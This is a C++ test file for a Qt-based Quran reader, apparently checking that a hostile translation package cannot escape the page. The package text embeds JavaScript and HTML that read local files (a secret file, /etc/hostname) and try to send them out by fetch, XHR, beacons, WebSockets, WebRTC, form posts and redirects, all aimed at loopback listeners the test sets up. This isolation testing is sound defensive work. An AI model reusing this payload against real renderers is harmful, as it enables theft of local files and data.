// A translation package whose text tries every way out of the page: it is shown by the reader,
// whose own page scripts keep working, while local listeners hear nothing and no file
// outside the working root is read.
#include "core/app/app_dirs.h"
#include "core/app/settings.h"
#include "core/quran/translations.h"
#include "gui/support/gui_app.h"
#include "gui/support/page_wait.h"
#include "gui/support/reader_window.h"
#include "support/temp_folder.h"

#include <gtest/gtest.h>

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <string>

using namespace tilvane;
using namespace tilvane::test;

namespace {

constexpr char kSecret[] = "secret-4d1f9a";

// A socket on the loopback address that counts what reaches it, polled without blocking.
class Listener {
public:
    explicit Listener(int type)
        : m_type(type)
        , m_socket(socket(AF_INET, type | SOCK_NONBLOCK, 0))
    {
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        socklen_t length = sizeof address;
        if (bind(m_socket, reinterpret_cast<sockaddr*>(&address), length) != 0
            || (type == SOCK_STREAM && listen(m_socket, 16) != 0)
            || getsockname(m_socket, reinterpret_cast<sockaddr*>(&address), &length) != 0)
            throw std::runtime_error("cannot open a listener");
        m_port = ntohs(address.sin_port);
    }
    ~Listener() { close(m_socket); }

    int port() const { return m_port; }

    // Connections and datagrams so far, with the bytes they brought.
    std::string heard()
    {
        char buffer[4096];
        if (m_type == SOCK_DGRAM) {
            for (ssize_t n; (n = recv(m_socket, buffer, sizeof buffer, 0)) >= 0;)
                m_heard += "[datagram]" + std::string(buffer, static_cast<std::size_t>(n));
            return m_heard;
        }
        for (int peer; (peer = accept(m_socket, nullptr, nullptr)) >= 0; close(peer)) {
            m_heard += "[connection]";
            fcntl(peer, F_SETFL, O_NONBLOCK);
            for (ssize_t n; (n = recv(peer, buffer, sizeof buffer, 0)) > 0;)
                m_heard += std::string(buffer, static_cast<std::size_t>(n));
        }
        return m_heard;
    }

private:
    int m_type;
    int m_socket;
    int m_port = 0;
    std::string m_heard;
};

// Every channel a page script or its markup might use; each attempt records when it has
// settled, so that the test knows when the page has done all it can.
std::string hostileText(int tcp, int udp, const std::string& secretFile)
{
    const std::string http = "http://127.0.0.1:" + std::to_string(tcp) + "/";
    const std::string script = R"(
var T = '@HTTP@', H = window.hostile = {settled: {}, files: [], candidates: []};
function done(name) { H.settled[name] = true; }
function leak(text) {
  new Image().src = T + 'leak?' + encodeURIComponent(text);
  fetch(T + 'leak', {method: 'POST', body: text, mode: 'no-cors'}).catch(function () {});
  navigator.sendBeacon(T + 'leak', text);
}
function attempt(name, start) { try { start(); } catch (e) { done(name); } }
attempt('fetch', function () { fetch(T + 'fetch', {mode: 'no-cors'}).then(function () { done('fetch'); }, function () { done('fetch'); }); });
attempt('xhr', function () { var x = new XMLHttpRequest(); x.onloadend = function () { done('xhr'); }; x.open('GET', T + 'xhr'); x.send(); });
attempt('beacon', function () { navigator.sendBeacon(T + 'beacon', 'b'); done('beacon'); });
attempt('ws', function () { var w = new WebSocket(T.replace('http', 'ws') + 'ws'); w.onclose = function () { done('ws'); }; });
attempt('es', function () { var e = new EventSource(T + 'es'); e.onerror = function () { e.close(); done('es'); }; });
attempt('open', function () { window.open(T + 'open'); done('open'); });
['file://@SECRET@', 'file:///etc/hostname'].forEach(function (url, i) {
  attempt('file' + i, function () {
    fetch(url).then(function (r) { return r.text(); }).then(function (t) { H.files.push(t); leak(t); done('file' + i); },
                                                          function () { done('file' + i); });
  });
  attempt('xfile' + i, function () {
    var x = new XMLHttpRequest();
    x.onloadend = function () { if (x.responseText) { H.files.push(x.responseText); leak(x.responseText); } done('xfile' + i); };
    x.open('GET', url); x.send();
  });
});
attempt('rtc', function () {
  var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@UDP@'},
    {urls: ['turn:127.0.0.1:@UDP@?transport=udp', 'turn:127.0.0.1:@TCP@?transport=tcp'], username: 'u', credential: 'c'}]});
  pc.onicecandidate = function (e) { if (e.candidate) H.candidates.push(e.candidate.candidate); else done('rtc'); };
  pc.createDataChannel('out');
  pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
  H.pc = pc;
});
)";
    std::string text = "<script>" + script + "</script>"
        "<img src=\"@HTTP@img\"><iframe src=\"@HTTP@frame\"></iframe><iframe src=\"file://@SECRET@\"></iframe>"
        "<link rel=\"preconnect\" href=\"@HTTP@\"><link rel=\"stylesheet\" href=\"@HTTP@css\">"
        "<form id=\"f\" action=\"@HTTP@form\" method=\"post\"><input name=\"a\" value=\"b\"></form>"
        "<script>addEventListener('load', function () { document.getElementById('f').submit(); });</script>"
        "<meta http-equiv=\"refresh\" content=\"0;url=@HTTP@refresh\">";
    // One line: a package holds one aya per line.
    std::replace(text.begin(), text.end(), '\n', ' ');
    for (const auto& [from, to] : {std::pair<std::string, std::string>{"@HTTP@", http}, {"@SECRET@", secretFile},
                                   {"@UDP@", std::to_string(udp)}, {"@TCP@", std::to_string(tcp)}}) {
        for (std::size_t at; (at = text.find(from)) != std::string::npos;)
            text.replace(at, from.size(), to);
    }
    return text;
}

TEST(PageIsolation, HostileTranslationTextReachesNoListenerAndReadsNoFile)
{
    guiApp();
    Listener tcp(SOCK_STREAM);
    Listener udp(SOCK_DGRAM);
    TempFolder outside;
    writeFile(outside / "secret.txt", kSecret);

    TempFolder app;
    const std::filesystem::path res = app / "res";
    std::filesystem::create_directories(res / "trans" / "Hostile");
    for (const char* archive : {"lib.tvz", "libina.tvz"})
        std::filesystem::create_symlink(std::string(TILVANE_BUILD_DIR) + "/res/" + archive, res / archive);
    writeFile(res / "trans" / "Hostile" / "_transinit.ini",
              "[translation]\r\nTransName=Hostile\r\nFullName=Hostile\r\nLanguage=English\r\n"
              "SuraNameFile=sura.txt\r\nAyaNameFile=aya.txt\r\n");
    writeFile(res / "trans" / "Hostile" / "sura.txt", "Hostile\r\n");
    writeFile(res / "trans" / "Hostile" / "aya.txt",
              hostileText(tcp.port(), udp.port(), (outside / "secret.txt").string()) + "\r\n");
    ResetAppDirsForTesting();
    InitAppDirs(app.dir());
    AppSet = TAppSet{};
    TransSlots.clear();
    ActiveTransCount = 0;
    writeFile(IniFileName, "[quran]\r\nLastOpenedSura=1\r\nLastOpenedAya=1\r\n"
                           "[translations]\r\nCount=1\r\ntrl_00=Hostile\r\ntrl_00Acive=1\r\n");

    TfmMain window;
    window.show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(&window));
    ASSERT_TRUE(showsAya(window, 1, 1)) << "the reader's own scripts keep working";
    const auto state = [&] {
        return QJsonDocument::fromJson(evaluate(window.ui().wbQuran, "JSON.stringify(window.hostile)").toString().toUtf8())
            .object();
    };
    ASSERT_TRUE(waitFor([&] { return state()["settled"].toObject().size() == 11; }))
        << QJsonDocument(state()).toJson().toStdString();
    window.navigator().gotoAyaNext();
    EXPECT_TRUE(showsAya(window, 1, 2)) << "the page stayed where the reader put it";

    EXPECT_EQ(tcp.heard(), "");
    EXPECT_EQ(udp.heard(), "");
    const QJsonObject hostile = state();
    EXPECT_TRUE(hostile["candidates"].toArray().isEmpty()) << "no address is gathered for a peer";
    EXPECT_TRUE(hostile["files"].toArray().isEmpty()) << QJsonDocument(hostile).toJson().toStdString();
}

} // namespace
